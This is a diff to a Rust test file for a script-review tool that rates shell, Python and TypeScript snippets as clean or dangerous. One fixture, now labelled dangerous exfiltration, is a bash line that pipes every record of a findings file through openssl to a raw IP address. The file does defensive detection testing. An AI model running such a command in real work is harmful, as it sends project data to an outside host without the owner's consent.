@@ -10,7 +10,7 @@ use terraphim_script_review::{Language, Verdict};
 use crate::rows;
 
 use Language::{Python as Py, Shell as Sh, TypeScript as Ts};
-use Verdict::{Clean, Dangerous, Suspicious};
+use Verdict::{Clean, Dangerous};
 
 /// `res.stderr` of `spawnSync('vault', ...)`, `proc.stderr` of `subprocess.run(["op", "read",
 /// ...])`: the message of a failed lookup, shown to the user. The output itself printed stays
@@ -90,8 +90,9 @@ fn a_tls_client_fed_no_input_reads_a_certificate() {
         (
             Sh,
             "#!/usr/bin/env bash\nset -euo pipefail\njq -c '.[]' build/findings.json | openssl s_client -quiet -connect 198.51.100.23:6514 >/dev/null\n".to_owned(),
-            Suspicious,
-            "network",
+            // Every record of the file, sent to a raw IP (recall51: project-data-to-network).
+            Dangerous,
+            "exfiltration",
         ),
         (
             Sh,
